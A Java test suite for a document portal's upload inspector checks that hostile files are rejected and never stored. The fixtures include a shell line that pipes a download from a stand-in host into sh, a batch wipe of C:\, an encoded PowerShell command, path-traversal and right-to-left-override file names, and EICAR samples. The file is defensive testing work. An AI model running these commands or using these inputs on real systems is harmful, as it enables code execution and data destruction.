package org.matterhub.portal.upload;

import static org.assertj.core.api.Assertions.assertThat;
import static org.matterhub.portal.upload.Fixtures.ascii;
import static org.matterhub.portal.upload.Fixtures.concat;
import static org.matterhub.portal.upload.Fixtures.docxWith;
import static org.matterhub.portal.upload.Fixtures.eicar;
import static org.matterhub.portal.upload.Fixtures.utf8;
import static org.matterhub.portal.upload.RejectionReason.BAD_FILE_NAME;
import static org.matterhub.portal.upload.RejectionReason.DECOMPRESSION_BOMB;
import static org.matterhub.portal.upload.RejectionReason.EMPTY;
import static org.matterhub.portal.upload.RejectionReason.ENCRYPTED;
import static org.matterhub.portal.upload.RejectionReason.EXECUTABLE;
import static org.matterhub.portal.upload.RejectionReason.MACRO_ENABLED;
import static org.matterhub.portal.upload.RejectionReason.MALWARE_SIGNATURE;
import static org.matterhub.portal.upload.RejectionReason.NESTED_ARCHIVE;
import static org.matterhub.portal.upload.RejectionReason.POLYGLOT;
import static org.matterhub.portal.upload.RejectionReason.SCRIPT;
import static org.matterhub.portal.upload.RejectionReason.TOO_LARGE;
import static org.matterhub.portal.upload.RejectionReason.TYPE_MISMATCH;
import static org.matterhub.portal.upload.RejectionReason.TYPE_NOT_ALLOWED;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.matterhub.portal.documents.DirectoryContentStore;
import org.matterhub.store.tenancy.TenantScope;

/**
 * Every hostile upload is refused for the expected reason, with a detail the client can act on, and the
 * sink is told to discard: nothing is committed. Then, case by case, the same upload goes through the production sink
 * (the upload endpoint's {@code ContentStoreSink}) into a content store on a directory: the store never kept it, not
 * even for a moment, and nothing is left in the directory.
 */
@Timeout(60)
class HostileUploadsTest {

  private static final ExecutorService THREADS = Executors.newCachedThreadPool();

  @TempDir
  Path storeRoot;

  @AfterAll
  static void stopThreads() {
    THREADS.shutdownNow();
  }

  private static final UploadPolicy DEFAULTS = UploadPolicy.defaults();

  record Case(String name, byte[] body, String fileName, String declaredType, UploadPolicy policy,
      RejectionReason expected) {
    @Override
    public String toString() {
      return name + " -> " + expected;
    }
  }

  private static Case hostile(String name, byte[] body, String fileName, String declaredType,
      RejectionReason expected) {
    return new Case(name, body, fileName, declaredType, DEFAULTS, expected);
  }

  static Stream<Case> hostileUploads() {
    byte[] zeros = new byte[20 << 20];
    Map<String, byte[]> plainZipBomb = new LinkedHashMap<>();
    plainZipBomb.put("evidence/ledger.csv", zeros);
    Map<String, byte[]> ooxmlBomb = Fixtures.docxParts(Fixtures.DOCX_MAIN);
    ooxmlBomb.put("word/document.xml", Fixtures.repeat("<w:p><w:r><w:t>a</w:t></w:r></w:p>", 600_000));
    Map<String, byte[]> spreadBomb = Fixtures.docxParts(Fixtures.DOCX_MAIN);
    for (int i = 0; i < 4; i++) {
      spreadBomb.put("word/media/image" + i + ".png", Fixtures.incompressible(600_000, i));
    }
    UploadPolicy smallExpansion = new UploadPolicy(DEFAULTS.maxBytes(), DEFAULTS.allowedTypes(), 1, 2L << 20, 100);
    Map<String, byte[]> xlsxInDocx = Fixtures.docxParts(Fixtures.DOCX_MAIN);
    xlsxInDocx.put("word/embeddings/Microsoft_Excel_Worksheet.xlsx", Fixtures.xlsx());
    Map<String, byte[]> docmInDocx = Fixtures.docxParts(Fixtures.DOCX_MAIN);
    docmInDocx.put("word/embeddings/package.docx", docxWith("word/vbaProject.bin", Fixtures.ole("+VBA", "dir")));
    UploadPolicy depthTwo = new UploadPolicy(DEFAULTS.maxBytes(), DEFAULTS.allowedTypes(), 2, DEFAULTS.maxExpandedBytes(),
        100);
    byte[] textAroundChunkBoundary = concat(Fixtures.letters(UploadInspector.CHUNK * 2 - 17, 1), eicar(),
        ascii("\ntail\n"));
    byte[] pdfWithLateHeader = concat(Fixtures.letters(2000, 2), Fixtures.pdf());
    byte[] jpegWithPdfHeader = Fixtures.image("jpeg").clone();
    System.arraycopy(ascii("%PDF-1.7"), 0, jpegWithPdfHeader, 200, 8);

    return Stream.of(
        hostile("EICAR in a text file", concat(ascii("Notes for the file\n"), eicar(), ascii("\n")), "notes.txt",
            "text/plain", MALWARE_SIGNATURE),
        hostile("EICAR split across two read chunks", textAroundChunkBoundary, "big-notes.txt", null,
            MALWARE_SIGNATURE),
        hostile("EICAR inside a deflated docx part", docxWith("word/media/readme.txt", eicar()), "brief.docx", null,
            MALWARE_SIGNATURE),
        hostile("EICAR in a PDF", concat(Fixtures.pdf(), eicar()), "scan.pdf", "application/pdf", MALWARE_SIGNATURE),
        hostile("zip bomb: 20 MiB of zeros named .xlsx", Fixtures.zip(plainZipBomb), "ledger.xlsx", null,
            DECOMPRESSION_BOMB),
        hostile("OOXML bomb: repetitive document.xml", Fixtures.zip(ooxmlBomb), "brief.docx", null,
            DECOMPRESSION_BOMB),
        new Case("OOXML over the expanded-size cap at a low ratio", Fixtures.zip(spreadBomb), "photos.docx", null,
            smallExpansion, DECOMPRESSION_BOMB),
        hostile("polyglot: PDF with a ZIP appended", concat(Fixtures.pdf(), Fixtures.docx()), "letter.pdf",
            "application/pdf", POLYGLOT),
        hostile("polyglot: PDF header after 2000 bytes", pdfWithLateHeader, "letter.pdf", null, POLYGLOT),
        hostile("polyglot: PDF carrying a Windows program", concat(Fixtures.pdf(), Fixtures.windowsExe()),
            "letter.pdf", null, POLYGLOT),
        hostile("polyglot: JPEG with a PDF header in its first 1024 bytes", jpegWithPdfHeader, "photo.jpg", null,
            POLYGLOT),
        hostile("polyglot: PNG with a ZIP appended", concat(Fixtures.image("png"), Fixtures.docx()), "photo.png",
            null, POLYGLOT),
        hostile("polyglot: docx with a second ZIP appended", concat(Fixtures.docx(), Fixtures.xlsx()), "brief.docx",
            null, POLYGLOT),
        hostile("macro-enabled .docm", Fixtures.zip(Fixtures.docxParts(Fixtures.DOCM_MAIN)), "brief.docm", null,
            MACRO_ENABLED),
        hostile(".docx carrying vbaProject.bin", docxWith("word/vbaProject.bin", Fixtures.ole("+VBA", "dir")),
            "brief.docx", null, MACRO_ENABLED),
        hostile(".docx declaring a macro-enabled main part", Fixtures.zip(Fixtures.docxParts(Fixtures.DOCM_MAIN)),
            "brief.docx", null, MACRO_ENABLED),
        hostile(".doc with a VBA storage", Fixtures.ole("WordDocument", "+Macros", "+VBA"), "brief.doc",
            "application/msword", MACRO_ENABLED),
        hostile(".xls with _VBA_PROJECT_CUR", Fixtures.ole("Workbook", "+_VBA_PROJECT_CUR"), "ledger.xls", null,
            MACRO_ENABLED),
        hostile(".odt with a Basic module", Fixtures.odt(Map.of("Basic/Standard/Module1.xml", utf8("<module/>"))),
            "brief.odt", null, MACRO_ENABLED),
        hostile(".exe renamed .pdf", Fixtures.windowsExe(), "invoice.pdf", "application/pdf", EXECUTABLE),
        hostile("ELF renamed .txt", Fixtures.elf(), "readme.txt", "text/plain", EXECUTABLE),
        hostile("Java class renamed .png", Fixtures.javaClass(), "photo.png", null, EXECUTABLE),
        hostile(".exe by name", Fixtures.windowsExe(), "setup.exe", null, EXECUTABLE),
        hostile("program embedded in a docx part", docxWith("word/embeddings/oleObject1.bin", Fixtures.windowsExe()),
            "brief.docx", null, EXECUTABLE),
        hostile("shell script renamed .txt", ascii("#!/bin/sh\ncurl http://x.example/a | sh\n"), "notes.txt",
            "text/plain", SCRIPT),
        hostile("batch file renamed .txt", ascii("@echo off\r\ndel /q C:\\*\r\n"), "notes.txt", null, SCRIPT),
        hostile("PowerShell renamed .csv", ascii("a,b\n1,\"powershell -EncodedCommand SQBFAFgA\"\n"), "data.csv",
            "text/csv", SCRIPT),
        hostile("VBScript renamed .md", ascii("# Notes\n\nSet sh = CreateObject(\"WScript.Shell\")\n"), "notes.md",
            null, SCRIPT),
        hostile("HTML with script renamed .txt", ascii("<!DOCTYPE html><html><script>alert(1)</script></html>"),
            "page.txt", null, SCRIPT),
        hostile("JavaScript by name", ascii("alert(1)"), "invoice.pdf.js", null, SCRIPT),
        hostile("path traversal", Fixtures.pdf(), "../../etc/cron.d/x.pdf", "application/pdf", BAD_FILE_NAME),
        hostile("Windows path", Fixtures.pdf(), "C:\\Users\\me\\x.pdf", null, BAD_FILE_NAME),
        hostile("double dot", Fixtures.pdf(), "..pdf", null, BAD_FILE_NAME),
        hostile("NUL in the name", Fixtures.pdf(), "letter.pdf\u0000.exe", null, BAD_FILE_NAME),
        hostile("control character in the name", Fixtures.pdf(), "let\u0007ter.pdf", null, BAD_FILE_NAME),
        hostile("right-to-left override hiding .exe", Fixtures.pdf(), "invoice\u202Efdp.exe", null, BAD_FILE_NAME),
        hostile("reserved Windows name", Fixtures.pdf(), "CON.pdf", null, BAD_FILE_NAME),
        hostile("name over 255 UTF-8 bytes", Fixtures.pdf(), "\u00e4".repeat(126) + ".pdf", null, BAD_FILE_NAME),
        hostile("blank name", Fixtures.pdf(), "   ", null, BAD_FILE_NAME),
        new Case("oversize", Fixtures.letters(10_000, 3), "notes.txt", null, DEFAULTS.withMaxBytes(4096), TOO_LARGE),
        new Case("oversize beyond the head", Fixtures.letters(300_000, 3), "notes.txt", null,
            DEFAULTS.withMaxBytes(200_000), TOO_LARGE),
        hostile("empty", new byte[0], "notes.txt", "text/plain", EMPTY),
        hostile("declared type contradicts the name", Fixtures.pdf(), "letter.pdf", "image/png", TYPE_MISMATCH),
        hostile("PNG content named .jpg", Fixtures.image("png"), "photo.jpg", "image/jpeg", TYPE_MISMATCH),
        hostile("workbook named .docx", Fixtures.xlsx(), "brief.docx", null, TYPE_MISMATCH),
        hostile("plain ZIP named .docx", Fixtures.zip(Map.of("a.txt", ascii("hello"))), "brief.docx", null,
            TYPE_MISMATCH),
        hostile("PDF named .docx", Fixtures.pdf(), "brief.docx", null, TYPE_MISMATCH),
        hostile("binary data named .txt", concat(ascii("hello"), new byte[64], ascii("world")), "notes.txt", null,
            TYPE_MISMATCH),
        hostile("7z archive named .pdf", concat(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4},
            new byte[64]), "letter.pdf", null, TYPE_MISMATCH),
        hostile("installer-like compound file named .doc", Fixtures.ole("SummaryInformation"), "brief.doc", null,
            TYPE_MISMATCH),
        hostile("plain archive upload", Fixtures.docx(), "documents.zip", "application/zip", TYPE_NOT_ALLOWED),
        hostile("unknown extension", ascii("hello"), "notes.xyz", null, TYPE_NOT_ALLOWED),
        new Case("type outside a narrowed allowlist", Fixtures.image("png"), "photo.png", null,
            new UploadPolicy(1 << 20, java.util.Set.of("application/pdf"), 1, 1 << 20, 100), TYPE_NOT_ALLOWED),
        hostile("encrypted PDF", Fixtures.encryptedPdf(), "statement.pdf", "application/pdf", ENCRYPTED),
        hostile("encrypted OOXML (EncryptedPackage in OLE)", Fixtures.ole("EncryptionInfo", "EncryptedPackage",
            "+\u0006DataSpaces"), "brief.docx", null, ENCRYPTED),
        hostile("password-protected ZIP entries", Fixtures.markEncrypted(Fixtures.docx()), "brief.docx", null,
            ENCRYPTED),
        hostile("password-protected Word 97 document", Fixtures.ole(Fixtures.encryptedWordFib(), "WordDocument"),
            "brief.doc", null, ENCRYPTED),
        hostile("encrypted OpenDocument", Fixtures.odt(Map.of("META-INF/manifest.xml", utf8(
            "<manifest:manifest><manifest:file-entry manifest:full-path=\"content.xml\"><manifest:encryption-data/>"
                + "</manifest:file-entry></manifest:manifest>"))), "brief.odt", null, ENCRYPTED),
        hostile("nested zip in a docx", docxWith("word/embeddings/evidence.zip", Fixtures.docx()), "brief.docx",
            null, NESTED_ARCHIVE),
        hostile("zip content under an innocent part name", docxWith("word/media/image1.png",
            Fixtures.zip(Map.of("a.txt", ascii("x")))), "brief.docx", null, NESTED_ARCHIVE),
        hostile("embedded xlsx package at the default depth", Fixtures.zip(xlsxInDocx), "brief.docx", null,
            NESTED_ARCHIVE),
        hostile("7z inside a docx", docxWith("word/media/image2.png", concat(new byte[] {'7', 'z', (byte) 0xBC,
            (byte) 0xAF, 0x27, 0x1C}, new byte[32])), "brief.docx", null, NESTED_ARCHIVE),
        new Case("macro docx nested in a docx, scanned recursively at depth 2", Fixtures.zip(docmInDocx),
            "brief.docx", null, depthTwo, MACRO_ENABLED));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileUploads")
  void refusesAndDiscards(Case c) throws IOException {
    RecordingSink sink = new RecordingSink();

    InspectionResult result = new UploadInspector(c.policy())
        .inspect(new ByteArrayInputStream(c.body()), c.fileName(), c.declaredType(), sink);

    assertThat(result).isInstanceOf(Rejected.class);
    Rejected rejected = (Rejected) result;
    assertThat(rejected.reason()).as(rejected.detail()).isEqualTo(c.expected());
    assertThat(rejected.detail()).isNotBlank().endsWith(".");
    assertThat(sink.discarded).isTrue();
    assertThat(sink.committed).isFalse();

    DirectoryContentStore store = new DirectoryContentStore(storeRoot);
    String key = "documents/" + UUID.randomUUID() + "/v1";
    InspectionResult throughTheStore = new UploadInspector(c.policy()).inspect(new ByteArrayInputStream(c.body()),
        c.fileName(), c.declaredType(), store.sink(TenantScope.system(UUID.randomUUID()), key, THREADS));
    assertThat(throughTheStore).isInstanceOfSatisfying(Rejected.class,
        r -> assertThat(r.reason()).isEqualTo(c.expected()));
    assertThat(store.landed).as("writes that landed in the store").isEmpty();
    assertThat(store.files()).as("files left in the store").isEmpty();
  }
}
